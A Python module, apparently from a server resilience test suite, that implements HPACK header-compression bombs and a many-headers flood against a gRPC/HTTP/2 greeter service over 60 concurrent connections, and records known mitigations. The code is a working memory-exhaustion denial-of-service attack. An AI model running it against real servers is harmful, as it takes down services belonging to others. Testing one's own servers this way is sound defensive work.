"""Headers that are small on the wire and large in memory (RFC 7541, section 7.3)."""

from __future__ import annotations

import asyncio
from contextlib import AsyncExitStack

from attack import MIB, ONE_PORT, STREAM_MIB, Attack, Bounds, Target
from talk import (
    END_HEADERS,
    HEADERS,
    PREFACE,
    SETTINGS,
    Stranger,
    call,
    frame,
    literal,
    stranger,
)

MIB_SENT, QUICK_MIB_SENT = 6, 1
CONNECTIONS = 60
REFERENCES = 400
"""In each call, to one header; `MAX_HEADER_BYTES` counts each as 34."""

FEW_REFERENCES, FEW_MIB_SENT = 120, 0.5
"""As many as the HTTP port lets through."""

FEW_CALLS = 2_100
"""That is no more than so many calls, all at a time."""


async def attack(target: Target) -> str:
    """Begins calls whose heads are full of the same header, and leaves them so."""
    return await _attack(target, REFERENCES, QUICK_MIB_SENT if target.quick else MIB_SENT)


async def with_few_fields(target: Target) -> str:
    """The same, with no more headers than are taken."""
    return await _attack(target, FEW_REFERENCES, FEW_MIB_SENT)


async def _attack(target: Target, references: int, mib: float) -> str:
    each = int(mib * MIB / CONNECTIONS)
    async with AsyncExitStack() as stack:
        clients = [
            await stack.enter_async_context(stranger(target.grpc_port)) for _ in range(CONNECTIONS)
        ]
        sent = sum(
            await asyncio.gather(*(_begin_calls(client, each, references) for client in clients))
        )
        await asyncio.sleep(2)
    return f"{sent / MIB:.1f} MiB of references to one header"


async def _begin_calls(client: Stranger, limit: int, references: int) -> int:
    await client.send(PREFACE + frame(SETTINGS, 0, 0, b""))
    head = call(b"/greeter_service.v1.Greeter/SayHello")
    block = head + literal(b"x", b"y", indexed=True) + b"\xbe" * references
    sent, stream = 0, 1
    while sent < limit and await client.send(frame(HEADERS, END_HEADERS, stream, block)):
        sent += len(block)
        stream += 2
        block = head + b"\xbe" * references
    return sent


ATTACKS = [
    Attack(
        "an HPACK bomb on the gRPC port",
        attack,
        known="gRPC core's, without an option that bounds it: a proxy and a memory limit do",
    ),
    Attack("an HPACK bomb on the HTTP port", attack, settings=ONE_PORT),
    Attack(
        "many headers on the HTTP port",
        with_few_fields,
        Bounds(mib=FEW_CALLS * STREAM_MIB + 16),
        ONE_PORT,
    ),
]
